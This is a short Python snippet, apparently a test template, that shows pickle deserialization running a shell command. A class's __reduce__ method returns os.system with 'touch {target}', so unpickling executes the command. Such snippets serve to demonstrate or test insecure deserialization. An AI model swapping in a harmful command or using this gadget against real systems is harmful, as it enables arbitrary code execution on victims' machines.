import pickle
class A:
    def __reduce__(self):
        import os
        return os.system, ("touch {target}",)
pickle.loads(pickle.dumps(A()))
